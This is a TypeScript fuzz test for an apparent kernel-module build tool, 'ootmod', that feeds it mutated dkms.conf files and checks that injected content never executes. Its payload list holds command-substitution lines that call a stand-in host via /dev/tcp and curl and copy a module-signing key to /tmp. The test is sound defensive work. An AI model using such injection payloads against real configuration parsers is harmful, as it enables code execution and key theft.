// Hostile dkms.conf: real files (the fixtures and three Debian packages' own) mutated: bytes flipped,
// lines deleted and duplicated, command substitutions, huge arrays, paths with .., NUL and newlines in
// every directive. Over all cases: no internal error, one line for each invalid source, and nothing
// written outside ootmod's own dirs (the injected commands aim at /etc, /tmp, the root, ../..).
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ARRAY_DIRECTIVES, SCALAR_DIRECTIVES } from '../../src/modules/dkmsconf.js';
import { extractDkmsSources, fetchDeb } from '../support/debs.js';
import { FIXTURES } from '../support/host.js';
import { makeRoot, tempDir } from '../support/roots.js';
import { seededRandom } from './lib/random.js';
import { QUICK, recordRow } from './lib/table.js';
import { addFakeKernel, changed, FAKE_KERNEL, ootmodRun, snapshot } from './lib/system.js';

const IS_ROOT = process.getuid?.() === 0;
const CASES = Number(process.env.OOTMOD_FUZZ_CASES ?? (QUICK ? 200 : 1000));
const BATCH = 50;
const DIRECTIVES = [...SCALAR_DIRECTIVES, ...ARRAY_DIRECTIVES];
const TOKEN = `ootmod-fuzz-${process.pid}`;
/** Where ootmod itself writes, in a root: its state and work dirs, and the fake kernel's installed modules. */
const OOTMOD_OWN = /^(var\/lib\/ootmod\/|usr\/lib\/modules\/[^/]+\/(updates\/ootmod\/[^/]+\.ko(\.\w+)?|modules\.[\w.]+)$)/;

interface Base {
  label: string;
  dir: string;
  conf: string;
}

async function corpus(): Promise<Base[]> {
  const bases: Base[] = [];
  for (const d of readdirSync(FIXTURES).filter((d) => d.startsWith('ootmod-'))) {
    bases.push({ label: d, dir: path.join(FIXTURES, d), conf: readFileSync(path.join(FIXTURES, d, 'dkms.conf'), 'latin1') });
  }
  const staging = tempDir('ootmod-fuzz-debs-');
  for (const [pkg, suites] of [['dkms-test-dkms', ['trixie', 'sid']], ['acpi-call-dkms', ['bookworm', 'trixie', 'sid']], ['v4l2loopback-dkms', ['bookworm', 'trixie', 'sid']]] as const) {
    const deb = await fetchDeb(pkg, [...suites]);
    for (const dir of extractDkmsSources(deb.file, path.join(staging, pkg))) {
      bases.push({ label: path.basename(dir), dir, conf: readFileSync(path.join(dir, 'dkms.conf'), 'latin1') });
    }
  }
  return bases;
}

type Rnd = ReturnType<typeof seededRandom>;

const PAYLOADS = (i: number) => [
  `$(touch /etc/${TOKEN}-${i})`,
  `\`touch /tmp/${TOKEN}-${i}\``,
  `$(touch \${dkms_tree}/../${TOKEN}-${i} ../../${TOKEN}-${i})`,
  `$(echo x > /dev/tcp/192.0.2.1/80)`,
  `$(curl -s http://192.0.2.1/ > /tmp/${TOKEN}-curl-${i})`,
  `$(cat /var/lib/ootmod/mok.key > /tmp/${TOKEN}-key-${i})`,
];

/** One mutation of a dkms.conf; `i` spreads the kinds and directives evenly over the cases. */
function mutate(conf: string, i: number, rnd: Rnd): { text: string; kind: string } {
  const lines = conf.split('\n');
  const directive = DIRECTIVES[Math.floor(i / 8) % DIRECTIVES.length]!;
  const idx = ARRAY_DIRECTIVES.includes(directive as (typeof ARRAY_DIRECTIVES)[number]) ? `[${rnd.int(3)}]` : '';
  switch (i % 8) {
    case 0: {
      const b = Buffer.from(conf, 'latin1');
      for (let n = 1 + rnd.int(4); n > 0; n--) b[rnd.int(b.length)] = rnd.int(256);
      return { text: b.toString('latin1'), kind: 'bytes flipped' };
    }
    case 1:
      lines.splice(rnd.int(lines.length), 1);
      return { text: lines.join('\n'), kind: 'line deleted' };
    case 2: {
      const at = rnd.int(lines.length);
      lines.splice(at, 0, lines[at]!);
      return { text: lines.join('\n'), kind: 'line duplicated' };
    }
    case 3:
      return { text: `${conf}\n${directive}${idx}="${rnd.pick(PAYLOADS(i))}"\n`, kind: `command substitution in ${directive}` };
    case 4:
      return rnd.next() < 0.5
        ? { text: `${conf}\nfor __i in $(seq 0 ${5000 + rnd.int(20000)}); do ${directive}[$__i]="m$__i"; done\n`, kind: `huge array ${directive}` }
        : { text: `${conf}\n${directive}[${2 ** 31 + rnd.int(1000)}]="x"\n${directive}${idx}="${'A'.repeat(200_000)}"\n`, kind: `huge index/value ${directive}` };
    case 5:
      return { text: `${conf}\n${directive}${idx}="${rnd.pick(['../../../../etc', '/updates/../../../../etc', `../${TOKEN}`, '..', './../..'])}"\n`, kind: `.. path in ${directive}` };
    case 6:
      return { text: `${conf}\n${directive}${idx}="a\0b${rnd.pick(['', '/../x', '.ko'])}"\n`, kind: `NUL in ${directive}` };
    default:
      return { text: `${conf}\n${directive}${idx}=$'first\\n${rnd.pick(['second', '/updates', 'make -C /'])}'\n`, kind: `newline in ${directive}` };
  }
}

/** A source dir for a case: the base's small files, its dkms.conf renamed to fz<i>-1.0 and mutated. */
function placeCase(root: string, base: Base, i: number, rnd: Rnd): string {
  const dir = path.join(root, 'usr/src', `fz${i}-1.0`);
  cpSync(base.dir, dir, { recursive: true, filter: (f) => statSync(f).isDirectory() || statSync(f).size < 256 * 1024 });
  const named = base.conf
    .replace(/^PACKAGE_NAME=.*$/m, `PACKAGE_NAME="fz${i}"`)
    .replace(/^PACKAGE_VERSION=.*$/m, 'PACKAGE_VERSION="1.0"');
  const { text, kind } = mutate(named, i, rnd);
  writeFileSync(path.join(dir, 'dkms.conf'), Buffer.from(text, 'latin1'), { mode: 0o644 });
  return kind;
}

const LINE_KINDS = /^(start|failed|invalid|skip|installed|built|current) +\S|^ootmod: (no kernel headers|waiting)|^depmod failed/;

function markersOnHost(): string[] {
  const found: string[] = [];
  for (const dir of ['/tmp', '/etc', '/var/tmp', '/']) {
    for (const f of existsSync(dir) ? readdirSync(dir) : []) if (f.startsWith(TOKEN)) found.push(path.join(dir, f));
  }
  return found;
}

describe.skipIf(!IS_ROOT)('hostile dkms.conf', () => {
  it(`holds over ${CASES} mutated real dkms.conf files`, async () => {
    const bases = await corpus();
    const rnd = seededRandom();
    const failures: string[] = [];
    const kinds = new Map<string, number>();
    let invalid = 0;
    // Cases run in batches (one autoinstall each): a batch with a problem counts all its cases as not held.
    let notHeld = 0;
    for (let start = 0; start < CASES; start += BATCH) {
      const failuresBefore = failures.length;
      const root = makeRoot('ootmod-faults-fuzz-');
      addFakeKernel(root);
      mkdirSync(path.join(root, 'usr/src'), { recursive: true });
      const count = Math.min(BATCH, CASES - start);
      for (let i = start; i < start + count; i++) {
        const kind = placeCase(root, bases[i % bases.length]!, i, rnd);
        kinds.set(kind.split(' ')[0]!, (kinds.get(kind.split(' ')[0]!) ?? 0) + 1);
      }
      const before = snapshot(root, OOTMOD_OWN);
      const r = await ootmodRun(root, ['autoinstall', '-k', FAKE_KERNEL]);
      const where = `batch ${start / BATCH} (cases ${start}-${start + count - 1}, seed ${rnd.seed})`;
      if (r.code !== 0 && r.code !== 1) failures.push(`${where}: exit ${r.code}: ${r.stderr.slice(-300)}`);
      const odd = r.stderr.split('\n').filter((l) => l && !LINE_KINDS.test(l));
      if (odd.length) failures.push(`${where}: lines that are not one-line reports: ${JSON.stringify(odd.slice(0, 3))}`);
      const lines = r.stderr.split('\n');
      for (let i = start; i < start + count; i++) {
        if (lines.some((l) => l.startsWith(`invalid  fz${i}`) || new RegExp(`^invalid +\\S*usr/src/fz${i}-1\\.0[:/]`).test(l))) invalid++;
      }
      const outside = changed(before, snapshot(root, OOTMOD_OWN)).filter((f) => !f.includes('/usr/src/fz'));
      if (outside.length) failures.push(`${where}: files changed outside ootmod's dirs: ${outside.slice(0, 5).join(', ')}`);
      // The sources themselves must be as placed: the build works on a copy.
      const srcChanged = changed(before, snapshot(root, OOTMOD_OWN)).filter((f) => f.includes('/usr/src/fz'));
      if (srcChanged.length) failures.push(`${where}: module sources changed: ${srcChanged.slice(0, 5).join(', ')}`);
      const leaked = markersOnHost();
      if (leaked.length) failures.push(`${where}: injected commands wrote ${leaked.join(', ')}`);
      if (failures.length > failuresBefore) notHeld += count;
      rmSync(root, { recursive: true, force: true });
    }
    for (const m of markersOnHost()) rmSync(m, { force: true });
    recordRow({
      fault: 'hostile dkms.conf (fuzzer)',
      tried: CASES,
      held: CASES - notHeld,
      detail: `${bases.length} real files, judged in batches of ${BATCH}; ${invalid} refused as invalid in one line; ${[...kinds].map(([k, n]) => `${k} ${n}`).join(', ')}; seed ${rnd.seed}`,
    });
    expect(failures).toEqual([]);
  });
});
